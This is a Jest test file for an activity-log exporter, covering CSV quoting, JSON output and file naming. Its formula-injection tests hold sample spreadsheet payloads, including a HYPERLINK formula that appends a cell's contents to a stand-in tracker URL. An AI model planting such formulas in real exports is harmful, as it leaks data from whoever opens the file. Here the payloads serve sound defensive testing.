import Papa from 'papaparse';
import { buildLogExport, exportFileName, logsToCsv, logsToJson } from './activity-export';
import type { ActivityLogEntry } from './activity-logs';

const log = (overrides: Partial<ActivityLogEntry> = {}): ActivityLogEntry => ({
  id: '11111111-1111-4111-8111-111111111111',
  entityType: 'workspace',
  entityId: '22222222-2222-4222-8222-222222222222',
  userId: '33333333-3333-4333-8333-333333333333',
  actor: { id: '33333333-3333-4333-8333-333333333333', name: 'Ana Lopez' },
  action: 'workspace.created',
  level: 'info',
  message: "Created workspace 'Alpha'",
  metadata: { name: 'Alpha' },
  createdAt: '2026-11-22T09:30:00.000Z',
  ...overrides,
});

describe('logsToCsv', () => {
  it('writes a header and one row per log, metadata as JSON, each line ended by CRLF', () => {
    const lines = logsToCsv([log()]).split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[2]).toBe('');
    expect(lines[0]).toBe('createdAt,level,entityType,entityId,action,message,event,userId,actor,id,metadata');
    expect(lines[1]).toBe(
      `2026-11-22T09:30:00.000Z,Info,workspace,22222222-2222-4222-8222-222222222222,Workspace created,Created workspace 'Alpha',workspace.created,33333333-3333-4333-8333-333333333333,Ana Lopez,11111111-1111-4111-8111-111111111111,"{""name"":""Alpha""}"`,
    );
  });

  it('quotes commas, quotes and newlines so the file reads back to the same values', () => {
    const message = 'Renamed "Alpha, the first"\nto Beta';
    const csv = logsToCsv([log({ message })]);
    expect(csv).toContain('"Renamed ""Alpha, the first""\nto Beta"');
    const parsed = Papa.parse<Record<string, string>>(csv, { header: true });
    expect(parsed.data[0].message).toBe(message);
    expect(JSON.parse(parsed.data[0].metadata)).toEqual({ name: 'Alpha' });
  });

  it('defuses cells a spreadsheet would run as formulas', () => {
    const csv = logsToCsv([log({ message: '=HYPERLINK("http://x")' })]);
    expect(csv).toContain(`"'=HYPERLINK(""http://x"")"`);
  });

  it('defuses a formula followed by more lines', () => {
    const message = '=HYPERLINK("https://tracker.invalid/?d="&A1,"Open")\nRenamed the workspace';
    const [row] = Papa.parse<Record<string, string>>(logsToCsv([log({ message, action: '@SUM(1)\nx' })]), {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(row.message).toBe(`'${message}`);
    expect(row.action).toBe(`'@SUM(1)\nx`);
  });

  it('names who acted, by name and id, and who acted is defused like any cell', () => {
    const [row] = Papa.parse<Record<string, string>>(
      logsToCsv([
        log({
          userId: '33333333-3333-4333-8333-333333333333',
          actor: { id: '33333333-3333-4333-8333-333333333333', name: '=Eve' },
        }),
      ]),
      { header: true, skipEmptyLines: true },
    ).data;
    expect([row.actor, row.userId]).toEqual(["'=Eve", '33333333-3333-4333-8333-333333333333']);
  });

  it('is just the header for no logs', () => {
    expect(logsToCsv([])).toBe('createdAt,level,entityType,entityId,action,message,event,userId,actor,id,metadata\r\n');
  });
});

describe('logsToJson', () => {
  it('is {exportedAt, total, items}', () => {
    const items = [log(), log({ id: 'x', level: 'error' })];
    const body = JSON.parse(logsToJson(items, new Date('2026-11-22T10:00:00.000Z')));
    expect(body).toEqual({ exportedAt: '2026-11-22T10:00:00.000Z', total: 2, items });
  });
});

describe('exportFileName', () => {
  it('carries the local date', () => {
    expect(exportFileName('activity-logs', 'csv', new Date(2026, 10, 22, 23, 59))).toBe('activity-logs-2026-11-22.csv');
    expect(exportFileName('activity-logs', 'json', new Date(2027, 0, 5, 0, 1))).toBe('activity-logs-2027-01-05.json');
  });
});

describe('buildLogExport', () => {
  it('names, types and fills the file for each format', () => {
    const now = new Date(2026, 10, 22, 12, 0);
    const csv = buildLogExport('csv', [log()], now);
    expect(csv).toMatchObject({ fileName: 'activity-logs-2026-11-22.csv', mimeType: 'text/csv;charset=utf-8' });
    expect(csv.content.split('\r\n')).toHaveLength(3);
    const json = buildLogExport('json', [log()], now);
    expect(json).toMatchObject({ fileName: 'activity-logs-2026-11-22.json', mimeType: 'application/json' });
    expect(JSON.parse(json.content)).toEqual({ exportedAt: now.toISOString(), total: 1, items: [log()] });
  });
});
